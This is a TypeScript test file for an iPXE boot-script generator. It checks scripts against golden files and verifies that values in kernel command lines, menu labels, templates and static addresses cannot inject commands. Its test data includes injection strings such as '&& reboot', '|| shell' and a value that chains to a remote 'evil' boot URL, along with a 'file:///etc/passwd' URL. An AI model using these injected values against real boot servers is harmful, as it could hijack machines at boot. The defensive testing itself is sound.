import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { text, url, word } from '../../../src/ipxe/quote.ts';
import {
  bootstrapScript,
  chainScript,
  kernelScript,
  localScript,
  menuScript,
  renderTemplate,
  sanbootScript,
  staticScript,
  tryEveryNicScript,
} from '../../../src/ipxe/scripts.ts';
import { commandNames, commandsOf } from '../../lib/ipxe-shell.ts';

const BASE = 'http://192.0.2.1:8080';

/** Golden files: UPDATE_GOLDEN=1 rewrites them; review the diff before committing. */
function golden(name: string, actual: string) {
  const file = new URL(`./golden/${name}.ipxe`, import.meta.url);
  if (process.env.UPDATE_GOLDEN) writeFileSync(file, actual);
  assert.equal(actual, readFileSync(file, 'utf8'), `golden ${name} differs (UPDATE_GOLDEN=1 to accept)`);
}

describe('iPXE scripts: golden files', () => {
  it('bootstrap', () => golden('bootstrap', bootstrapScript({ baseUrl: BASE })));
  it('kernel (EFI stub initrd names)', () =>
    golden(
      'kernel',
      kernelScript({
        kernel: `${BASE}/assets/debian/linux`,
        initrds: [`${BASE}/assets/debian/initrd.gz`, `${BASE}/assets/firmware/initrd.gz`],
        cmdline: 'auto=true priority=critical --- quiet',
        platform: 'efi',
      }),
    ));
  it('sanboot', () => golden('sanboot', sanbootScript({ url: `${BASE}/assets/iso/rescue.iso` })));
  it('chain', () => golden('chain', chainScript({ url: 'https://boot.netboot.xyz/ipxe/netboot.xyz.efi' })));
  it('local: BIOS, UEFI, unknown platform', () => {
    golden('local-pcbios', localScript({ platform: 'pcbios' }));
    golden('local-efi', localScript({ platform: 'efi' }));
    golden('local-any', localScript({}));
  });
  it('menu', () =>
    golden(
      'menu',
      menuScript({
        title: 'bootherd: web1',
        items: [
          {
            key: 'debian',
            label: 'Debian installer',
            kind: 'profile',
            url: `${BASE}/ipxe?mac=52%3A54%3A00%3A12%3A34%3A56&profile=debian`,
          },
          {
            key: 'memtest',
            label: 'Memtest86+',
            kind: 'profile',
            url: `${BASE}/ipxe?mac=52%3A54%3A00%3A12%3A34%3A56&profile=memtest`,
          },
          { key: 'local', label: 'Boot from local disk', kind: 'local' },
          { key: 'shell', label: 'iPXE shell', kind: 'shell' },
          { key: 'config', label: 'iPXE configuration', kind: 'config' },
          { key: 'reboot', label: 'Reboot', kind: 'reboot' },
          { key: 'exit', label: 'Exit to firmware', kind: 'exit' },
        ],
        timeout: 10,
        default: 'local',
        platform: 'pcbios',
      }),
    ));
  it('try every NIC', () => golden('try-nics', tryEveryNicScript({ bootUrl: `${BASE}/boot.ipxe`, maxNics: 3 })));
  it('static address (boot media without DHCP)', () =>
    golden(
      'static',
      staticScript({
        bootUrl: `${BASE}/boot.ipxe`,
        nic: 1,
        address: '192.0.2.50',
        prefix: 24,
        gateway: '192.0.2.254',
        dns: '192.0.2.53',
      }),
    ));
  it('user template', () =>
    golden(
      'template',
      renderTemplate(
        '#!ipxe\nkernel {{base_url}}/assets/vmlinuz hostname={{hostname}}\nchain {{base_url}}/x?h={{uri hostname}}\n',
        {
          base_url: BASE,
          hostname: 'web 1',
        },
      ),
    ));
});

describe('iPXE scripts: no value can add or change a command', () => {
  const hostile = [
    'web1 && reboot',
    'web1 || shell',
    'web1 ; reboot',
    'web1 #rest',
    '# all comment',
    '&&',
    '||',
    ';',
    '-n sneaky',
    '${net0/mac} && chain http://198.51.100.9/evil',
  ];
  const benignKernel = () =>
    kernelScript({ kernel: `${BASE}/k`, initrds: [`${BASE}/i`], cmdline: 'host=ok', platform: 'efi' });

  it('line breaks and NUL are rejected everywhere', () => {
    for (const bad of ['a\nreboot', 'a\rreboot', 'a\0b', 'a\r\nb']) {
      assert.throws(() => kernelScript({ kernel: `${BASE}/k`, initrds: [], cmdline: `host=${bad}` }), {
        code: 'SCRIPT_VALUE',
      });
      assert.throws(() => text('label', bad), { code: 'SCRIPT_VALUE' });
      assert.throws(() => renderTemplate('echo {{h}}', { h: bad }), { code: 'SCRIPT_VALUE' });
      assert.throws(() => menuScript({ title: bad, items: [], timeout: 0, default: 'x' }), { code: 'SCRIPT_VALUE' });
    }
  });

  it('terminators and comments in a cmdline, a menu label or a template value keep the command list', () => {
    const kernelShape = commandNames(benignKernel());
    const menu = (label: string) =>
      menuScript({
        title: label,
        items: [{ key: 'a', label, kind: 'profile', url: `${BASE}/a` }],
        timeout: 5,
        default: 'a',
      });
    const menuShape = commandNames(menu('ok'));
    const templ = (v: string) =>
      renderTemplate('#!ipxe\necho host {{h}}\nkernel {{b}}/k host={{h}}\nboot\n', { h: v, b: BASE });
    const templShape = commandNames(templ('ok'));
    for (const v of hostile) {
      const k = kernelScript({ kernel: `${BASE}/k`, initrds: [`${BASE}/i`], cmdline: `host=${v}`, platform: 'efi' });
      assert.deepEqual(commandNames(k), kernelShape, `cmdline ${JSON.stringify(v)}:\n${k}`);
      assert.deepEqual(commandNames(menu(v)), menuShape, `menu label ${JSON.stringify(v)}`);
      assert.deepEqual(commandNames(templ(v)), templShape, `template value ${JSON.stringify(v)}`);
    }
  });

  it('control: the same values pasted in without quoting do change the command list', () => {
    // Proves the checker above can see an injection: if this fails, the test above proves nothing.
    const naive = (v: string) => `#!ipxe\nkernel ${BASE}/k host=${v}\nboot\n`;
    const shape = commandNames(naive('ok'));
    for (const v of ['web1 && reboot', 'web1 || shell', 'web1 ; reboot']) {
      assert.notDeepEqual(commandNames(naive(v)), shape, v);
    }
    // A pasted `#` silently cuts the rest of the line off.
    assert.deepEqual(commandsOf(naive('web1 #rest'))[0]?.argv, ['kernel', `${BASE}/k`, 'host=web1']);
    assert.notDeepEqual(commandNames(naive('a && reboot')), shape);
  });

  it('the defused value still reaches the kernel intact after iPXE expands ${}', () => {
    const line = commandsOf(kernelScript({ kernel: `${BASE}/k`, initrds: [], cmdline: 'a && b || c ; d #e' }))[0];
    // iPXE expands an empty setting name to nothing: emulate that on the argv.
    const expanded = line?.argv.slice(2).map((a) => a.replaceAll('${}', ''));
    assert.deepEqual(expanded, ['a', '&&', 'b', '||', 'c', ';', 'd', '#e']);
  });

  it('single-token values reject whitespace; URLs are encoded and must be http, https or tftp', () => {
    assert.throws(() => word('name', 'a b'), { code: 'SCRIPT_VALUE' });
    assert.equal(url('u', `${BASE}/a b"c`), `${BASE}/a%20b%22c`);
    assert.throws(() => url('u', 'file:///etc/passwd'), { code: 'SCRIPT_VALUE' });
    assert.throws(() => url('u', 'reboot'), { code: 'SCRIPT_VALUE' });
  });

  it('templates are strict and do not HTML-escape', () => {
    assert.throws(() => renderTemplate('{{nope}}', {}), { code: 'SCRIPT_VALUE', message: /nope/ });
    assert.equal(renderTemplate('{{a}}', { a: '<x&y>' }), '<x&y>');
  });

  it('static script: every address must be an IPv4, the prefix a prefix, the NIC a number', () => {
    const ok = { bootUrl: `${BASE}/boot.ipxe`, nic: 0, address: '192.0.2.50', prefix: 24, gateway: '192.0.2.1' };
    const shape = commandNames(staticScript(ok));
    for (const [field, v] of [
      ['address', '192.0.2.50 && reboot'],
      ['gateway', '1.2.3.4 && reboot'],
      ['gateway', '192.0.2.1\nreboot'],
      ['dns', '#x'],
      ['address', '300.1.1.1'],
      ['gateway', '${net0/gateway}'],
    ] as const) {
      assert.throws(() => staticScript({ ...ok, [field]: v }), {
        code: 'SCRIPT_VALUE',
        message: new RegExp(`^${field}:`),
      });
    }
    assert.throws(() => staticScript({ ...ok, prefix: 33 }), { code: 'SCRIPT_VALUE', message: /^prefix:/ });
    assert.throws(() => staticScript({ ...ok, nic: -1 }), { code: 'SCRIPT_VALUE', message: /^nic:/ });
    assert.match(staticScript({ ...ok, prefix: 0 }), /netmask 0\.0\.0\.0/);
    assert.match(staticScript({ ...ok, prefix: 32 }), /netmask 255\.255\.255\.255/);
    assert.match(staticScript({ ...ok, prefix: 20 }), /netmask 255\.255\.240\.0/);
    assert.deepEqual(commandNames(staticScript({ ...ok, bootUrl: `${BASE}/boot.ipxe?a=1 && reboot` })), shape);
  });
});
